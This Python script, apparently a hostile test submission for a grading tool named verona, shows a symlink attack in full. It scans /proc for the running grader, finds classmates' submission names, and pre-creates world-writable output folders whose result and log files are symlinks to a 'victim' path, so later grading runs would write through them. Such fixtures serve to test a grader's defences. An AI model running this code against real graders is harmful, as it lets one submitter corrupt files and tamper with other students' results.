#!/usr/bin/env python3
"""Hostile submission for experiments/balcony-tcp.yaml: a planted output folder.

Instead of the exercise, it looks in /proc for the `verona grade
--submission .../class/alice --out .../grade-alice` that grades it, lists
the classmates next to its own submission, and plants, for each classmate,
the folder the instructor will most likely give to the next --out
(grade-alice with the classmate's name instead): a folder of its own whose
run files (results.json, the agents' logs, ...) are symlinks to "victim"
next to it.  A verona that wrote into that folder would write through them.

It writes a line per planted folder to stdout and exits 0 at once
(bounded: one pass over /proc).
"""
import os
import sys

RUN_FILES = ["results.json", "gradescope.json", "junit.xml", "report.html", "transcript.txt",
             "experiment.yaml", "trace.pcapng", "romeo.pcap", "juliet.pcap", "agent-romeo.log",
             "agent-juliet.log"]


def graders():
    """(out, submission) of every `verona grade --submission` this program can see."""
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            argv = [a.decode(errors="replace") for a in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")]
        except OSError:
            continue
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = "/"       # another uid's: absolute paths still work
        if argv and argv[0].endswith("verona") and "grade" in argv and "--out" in argv and "--submission" in argv:
            yield (os.path.join(cwd, argv[argv.index("--out") + 1]),
                   os.path.join(cwd, argv[argv.index("--submission") + 1]))


def main():
    for out, sub in graders():
        me = os.path.basename(os.path.normpath(sub))
        if me not in os.path.basename(out):
            continue
        victim = os.path.join(os.path.dirname(out), "victim")
        try:
            classmates = [s for s in os.listdir(os.path.dirname(os.path.normpath(sub))) if s != me]
        except OSError as e:
            print(f"cannot list the class: {e}")
            continue
        for s in classmates:
            target = os.path.join(os.path.dirname(out), os.path.basename(out).replace(me, s))
            try:
                os.mkdir(target, 0o777)
                os.chmod(target, 0o777)
                for name in RUN_FILES:
                    os.symlink(victim, os.path.join(target, name))
                print(f"planted {target}")
            except OSError as e:
                print(f"cannot plant {target}: {e}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
